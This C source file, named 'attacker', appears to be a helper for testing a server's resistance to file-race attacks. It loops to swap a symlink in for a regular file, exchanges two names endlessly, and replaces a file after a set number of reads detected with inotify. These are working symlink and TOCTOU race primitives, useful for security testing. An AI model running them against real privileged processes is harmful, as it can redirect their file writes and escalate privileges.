/* What a program of the server's owner may do in directories that it may write to, as fast as it can. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

/* Each time a regular file has that name, a link of that name takes its place: attacker link NAME TARGET */
static void link_in_the_place_of(const char *name, const char *target) {
    char link[4096];
    struct stat about;
    snprintf(link, sizeof link, "%s.link", name);
    for (;;) {
        unlink(link);
        if (symlink(target, link) != 0) exit(1);
        do {
            while (lstat(name, &about) != 0) {}
        } while (!S_ISREG(about.st_mode));
        if (rename(link, name) == 0) puts("swapped"), fflush(stdout);
    }
}

/* Two names change places for ever: attacker exchange NAME OTHER */
static void exchange(const char *name, const char *other) {
    for (;;) renameat2(AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE);
}

/* After that many looks into a file something else takes its place: attacker after NAME OTHER LOOKS */
static void after_looks(const char *name, const char *other, int looks) {
    char events[4096];
    int watching = inotify_init();
    if (inotify_add_watch(watching, name, IN_CLOSE_NOWRITE) < 0) exit(1);
    puts("watching"), fflush(stdout);
    while (looks > 0) {
        ssize_t got = read(watching, events, sizeof events);
        for (char *at = events; at < events + got; at += sizeof(struct inotify_event) + ((struct inotify_event *)at)->len) looks--;
    }
    if (rename(other, name) == 0) puts("swapped"), fflush(stdout);
    for (;;) pause();
}

int main(int count, char **words) {
    if (count == 4 && strcmp(words[1], "link") == 0) link_in_the_place_of(words[2], words[3]);
    if (count == 4 && strcmp(words[1], "exchange") == 0) exchange(words[2], words[3]);
    if (count == 5 && strcmp(words[1], "after") == 0) after_looks(words[2], words[3], atoi(words[4]));
    return 2;
}
